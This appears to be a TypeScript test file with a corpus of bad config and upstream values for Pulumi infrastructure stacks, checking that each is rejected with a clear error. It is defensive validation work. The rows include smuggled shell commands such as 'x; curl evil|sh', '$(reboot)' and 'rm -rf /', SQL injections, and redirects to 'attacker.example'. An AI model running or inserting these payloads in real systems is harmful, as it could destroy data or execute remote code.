import assert from "node:assert/strict";
import { before, test } from "node:test";
import { ConfigError } from "../lib/config";
import { stackReferenceName, UpstreamError } from "../lib/stack-outputs";
import { MOCK_ORGANIZATION, StackRunError } from "../tools/offline/run-stack";
import type { PlanResult } from "../tools/plan/run-plan";
import { PlanError } from "../tools/plan/run-plan";
import type { StackProject } from "../tools/stacks";
import { STACK_ORDER } from "../tools/stacks";
import type { UpstreamTamper } from "./helpers/deployment";
import { devDeployment, MISSING, planStack } from "./helpers/deployment";

// The bad-input corpus over all three stacks: every row is one bad config value or one bad upstream
// output, fed to the real stack program after the dev deployment's upstream stacks. Each must be
// refused before that stack registers anything, with an error that names the key or the output.

const KINDS = [
  "wrong type",
  "out of range",
  "malformed",
  "world-open CIDR",
  "missing secret",
  "injection",
  "unknown key",
  "upstream missing",
  "upstream wrong type",
] as const;
type Kind = (typeof KINDS)[number];

interface ConfigRow {
  readonly stack: StackProject;
  readonly kind: Kind;
  readonly override: Readonly<Record<string, unknown>>;
  /** The qualified key (`<project>:<key>`) the message must name. */
  readonly expectKey: string;
  /** A secret value the message must not echo. */
  readonly secret?: string;
}

interface UpstreamRow {
  readonly stack: StackProject;
  readonly kind: Kind;
  readonly upstreamTamper: UpstreamTamper;
  /** The upstream output the message must name. */
  readonly expectKey: string;
}

type Row = ConfigRow | UpstreamRow;

/**
 * Rows of one bad config value of `stack`: the message must name `key` (by default the override's
 * first), qualified with the stack's project unless it already is (`aws:region`).
 */
const configRows =
  (stack: StackProject) =>
  (kind: Kind, override: Record<string, unknown>, key = Object.keys(override)[0]!): Row => ({
    stack,
    kind,
    override,
    expectKey: key.includes(":") ? key : `${stack}:${key}`,
  });
const aws = configRows("aws-resources");
const connector = configRows("connector");
const processing = configRows("processing");
const dataPlane = configRows("data-plane");

/** One tampered output of `from`, read by `stack`. */
const upstream = (
  stack: StackProject,
  kind: Kind,
  from: StackProject,
  output: string,
  value: unknown,
): Row => ({ stack, kind, upstreamTamper: { [from]: { [output]: value } }, expectKey: output });

const SNOWFLAKE = {
  enableSnowflake: true,
  snowflakeUrl: "https://xy12345.us-east-1.snowflakecomputing.com",
  snowflakeUser: "FRAUD_SINK",
  snowflakeDatabase: "FRAUD",
  snowflakeSchema: "PUBLIC",
  snowflakeRole: "FRAUD_SINK_ROLE",
};
const NOT_A_KEY = "hunter2-is-not-a-private-key";

export const CORPUS: readonly Row[] = [
  // ---- aws-resources config ----
  aws("wrong type", { oracleDataVolumeGiB: "fifty" }),
  aws("wrong type", { protectData: "yes" }),
  aws("wrong type", { allowedCidrs: "203.0.113.7/32" }),
  aws("wrong type", { webappReplicas: "1.5" }),
  aws("out of range", { webappReplicas: 0 }),
  aws("out of range", { redshiftNodeCount: 17 }),
  aws("out of range", { opensearchVolumeGiB: 5 }),
  aws("out of range", { opensearchInstanceCount: 5 }),
  aws("malformed", { region: "us-east-9" }),
  aws("malformed", { prefix: "FD" }),
  aws("malformed", { vpcCidr: "8.8.0.0/16" }),
  aws("malformed", { allowedCidrs: ["203.0.113.300/32"] }),
  aws("malformed", { allowedCidrs: ["203.0.113.7/24"] }),
  aws("malformed", { eksVersion: "1.29" }),
  aws("malformed", { oracleAmiId: "ami-latest" }),
  aws("malformed", { redshiftAdminUser: "admin" }),
  aws("malformed", { eksAdminRoleArns: ["arn:aws:sts::123456789012:assumed-role/admin/me"] }),
  aws("world-open CIDR", { allowedCidrs: ["0.0.0.0/0"] }),
  aws("world-open CIDR", { allowedCidrs: ["::/0"] }),
  aws("world-open CIDR", { allowedCidrs: ["1.0.0.0/1"] }),
  aws("world-open CIDR", { eksPublicAccessCidrs: ["0.0.0.0/0"] }),
  aws("injection", { prefix: "fd$(reboot)" }),
  aws("injection", { webappNamespace: 'fraud"demo' }),
  aws("injection", { owner: "data-platform\nInjected: tag" }),
  aws("injection", { oracleImage: "x; curl evil|sh" }),
  aws("injection", { redshiftDatabase: "fraud; DROP DATABASE dev" }),
  aws("injection", { opensearchMasterUser: 'admin"}' }),
  aws("unknown key", { allowedCidr: ["203.0.113.7/32"] }),

  // ---- connector config ----
  connector("wrong type", { tableBuckets: "six" }),
  connector("wrong type", { useEnvironmentAdmin: "yes" }),
  connector("out of range", { tableBuckets: 2000 }),
  connector("out of range", { flinkMaxCfu: 7 }),
  connector("out of range", { oracleReadyTimeoutMinutes: 0 }),
  connector("malformed", { region: "mars-north-1" }),
  connector("malformed", { region: "eu-west-1" }), // not the aws-resources stack's region
  connector("malformed", { clusterType: "basic" }),
  connector("malformed", { awsResourcesStack: "aws-resources" }),
  connector("unknown key", { tablebuckets: 6 }),
  connector("injection", { topicPrefix: "fd'; DROP TABLE x; --" }),
  connector("injection", { costCenter: "fraud\r\nX-Injected: 1" }),
  connector("injection", { awsResourcesStack: "organization/aws-resources/dev; rm -rf /" }),

  // ---- connector: outputs of aws-resources ----
  upstream("connector", "upstream missing", "aws-resources", "oracleXstreamPassword", MISSING),
  upstream("connector", "upstream missing", "aws-resources", "awsRegion", MISSING),
  upstream("connector", "upstream wrong type", "aws-resources", "oraclePort", "1521"),
  upstream("connector", "upstream wrong type", "aws-resources", "oracleHost", 42),
  upstream("connector", "upstream wrong type", "aws-resources", "allowedCidrs", "203.0.113.0/24"),
  upstream("connector", "upstream wrong type", "aws-resources", "namePrefix", ""),
  upstream("connector", "world-open CIDR", "aws-resources", "allowedCidrs", ["0.0.0.0/0"]),
  upstream("connector", "injection", "aws-resources", "oracleSchema", "SAMPLE,SYS"),
  upstream("connector", "injection", "aws-resources", "oracleHost", "tcp://attacker.example:1521/"),

  // ---- processing config ----
  processing("wrong type", { windowMinutes: "10m" }),
  processing("wrong type", { enableSnowflake: "yes" }),
  processing("wrong type", { blockedIpRanges: "1.1.1.1/32" }),
  processing("out of range", { maxWindowAmount: 0 }),
  processing("out of range", { singleTransactionLimit: 1e12 }),
  processing("malformed", { sinkErrorsTolerance: "some" }),
  processing("malformed", { snowflakeUrl: "http://xy12345.snowflakecomputing.com" }),
  processing("malformed", { flaggedIndex: "Flagged_User" }),
  processing("world-open CIDR", { blockedIpRanges: ["0.0.0.0/0"] }),
  processing("missing secret", SNOWFLAKE, "snowflakePrivateKey"),
  {
    ...processing("missing secret", { ...SNOWFLAKE, snowflakePrivateKey: NOT_A_KEY }, "snowflakePrivateKey"),
    secret: NOT_A_KEY,
  },
  {
    ...processing("unknown key", { snowflakePrivatKey: NOT_A_KEY }),
    secret: NOT_A_KEY,
  },
  processing("injection", { blockedIpRanges: ["1.1.1.1/32' OR '1'='1"] }),
  processing("injection", { flaggedIndex: 'x"}' }),
  processing("injection", { flaggedIndex: "flagged_user\u0000" }),
  processing("injection", { flaggedIndex: "flagged\u202euser" }),
  processing("injection", { snowflakeUser: 'FRAUD"; DROP USER x; --' }),
  processing("injection", { owner: "team\nInjected: tag" }),

  // ---- processing: outputs of aws-resources and connector ----
  upstream("processing", "upstream missing", "aws-resources", "redshiftAdminPassword", MISSING),
  upstream("processing", "upstream wrong type", "aws-resources", "redshiftPort", "5439"),
  upstream("processing", "upstream wrong type", "aws-resources", "opensearchEndpoint", 7),
  upstream("processing", "upstream wrong type", "aws-resources", "allowedCidrs", "203.0.113.0/24"),
  upstream("processing", "upstream missing", "connector", "flinkApiSecret", MISSING),
  upstream("processing", "upstream wrong type", "connector", "cdcTopics", "fd.SAMPLE.AUTH_USER"),
  upstream("processing", "upstream wrong type", "connector", "connectEgressCidrs", [1, 2]),
  upstream("processing", "upstream wrong type", "connector", "accessMode", "admin"),
  upstream("processing", "upstream wrong type", "connector", "cloud", "GCP"),
  upstream("processing", "upstream wrong type", "connector", "authUserTable", "auth_user; DROP TABLE x"),
  upstream("processing", "world-open CIDR", "connector", "connectEgressCidrs", ["0.0.0.0/0"]),
  upstream("processing", "world-open CIDR", "aws-resources", "allowedCidrs", ["203.0.113.0/24", "::/0"]),
  upstream("processing", "upstream wrong type", "connector", "connectEgressCidrs", ["not-a-cidr"]),
  upstream(
    "processing",
    "injection",
    "aws-resources",
    "opensearchEndpoint",
    "attacker.example#@search-x.es.aws",
  ),
  upstream("processing", "injection", "aws-resources", "redshiftHost", "attacker.example/"),

  // ---- data-plane config, and the aws-resources outputs it reads in every mode ----
  dataPlane("wrong type", { connectorStack: ["organization/connector/dev"] }),
  dataPlane("malformed", { awsResourcesStack: "aws-resources" }),
  dataPlane("malformed", { connectorStack: "connector" }),
  dataPlane("malformed", { processingStack: "a/b/c/d" }),
  dataPlane("injection", { awsResourcesStack: "organization/aws-resources/dev; rm -rf /" }),
  dataPlane("injection", { connectorStack: "organization/connector/dev$(id)" }),
  dataPlane("injection", { processingStack: "organization/processing/dev\nX" }),
  dataPlane("unknown key", { processingstack: "organization/processing/dev" }),
  dataPlane("unknown key", { networkMode: "private" }),
  upstream("data-plane", "upstream missing", "aws-resources", "networkMode", MISSING),
  upstream("data-plane", "upstream wrong type", "aws-resources", "networkMode", "hybrid"),
  upstream("data-plane", "upstream wrong type", "aws-resources", "privateSubnets", "subnet-1"),
  upstream("data-plane", "upstream missing", "aws-resources", "awsRegion", MISSING),
];

const STACK_REFERENCE = "pulumi:pulumi:StackReference";

/** PlanError → StackRunError → the ConfigError/UpstreamError that stopped the stack. */
function unwrap(err: unknown, stack: StackProject): { cause: Error; run: StackRunError } {
  assert.ok(err instanceof PlanError, `a PlanError, got ${String(err)}`);
  assert.equal(err.stackProject, stack, `the plan stopped at ${stack}: ${err.message}`);
  const run = err.cause;
  assert.ok(run instanceof StackRunError, `a StackRunError, got ${String(run)}`);
  const cause = run.cause;
  assert.ok(
    cause instanceof ConfigError || cause instanceof UpstreamError,
    `a ConfigError or UpstreamError, got ${String(cause)}`,
  );
  return { cause, run };
}

const label = (row: Row) =>
  `${row.stack} ${row.kind}: ` +
  ("override" in row
    ? JSON.stringify(row.override)
    : JSON.stringify(row.upstreamTamper, (_k, v: unknown) => (v === MISSING ? "<deleted>" : v)));

let baseline: PlanResult;
before(async () => {
  baseline = await devDeployment();
});

test("the corpus covers every stack and every kind of bad input", () => {
  assert.ok(CORPUS.length >= 45, `${CORPUS.length} rows`);
  for (const stack of STACK_ORDER) {
    assert.ok(CORPUS.filter((r) => r.stack === stack).length >= 12, `rows for ${stack}`);
  }
  assert.deepEqual([...new Set(CORPUS.map((r) => r.kind))].sort(), [...KINDS].sort());
  for (const stack of ["connector", "processing"] as const) {
    assert.ok(
      CORPUS.some((r) => r.stack === stack && "upstreamTamper" in r),
      `upstream rows for ${stack}`,
    );
  }
  const described = CORPUS.map(label);
  assert.equal(new Set(described).size, described.length, "no row is listed twice");
});

test("every bad input is refused before its stack registers a resource, naming the key or output", async (t) => {
  for (const row of CORPUS) {
    await t.test(label(row), async () => {
      const err = await planStack(baseline, row).then(
        () => assert.fail(`${label(row)} was accepted`),
        (e: unknown) => e,
      );
      const { cause, run } = unwrap(err, row.stack);
      assert.deepEqual(
        run.resources.filter((r) => r.type !== STACK_REFERENCE).map((r) => `${r.type} ${r.name}`),
        [],
        "registered before the error",
      );
      if ("override" in row) {
        assert.ok(cause instanceof ConfigError, `a ConfigError: ${cause.message}`);
        assert.ok(cause.message.includes(`${row.expectKey} = `), cause.message);
        if (row.secret) assert.ok(!cause.message.includes(row.secret), "the secret is not echoed");
      } else {
        assert.ok(cause instanceof UpstreamError, `an UpstreamError: ${cause.message}`);
        const from = Object.keys(row.upstreamTamper)[0] ?? "";
        assert.ok(cause.message.includes(stackReferenceName(MOCK_ORGANIZATION, from, "dev")), cause.message);
        assert.ok(cause.message.includes(`output '${row.expectKey}'`), cause.message);
      }
    });
  }
});
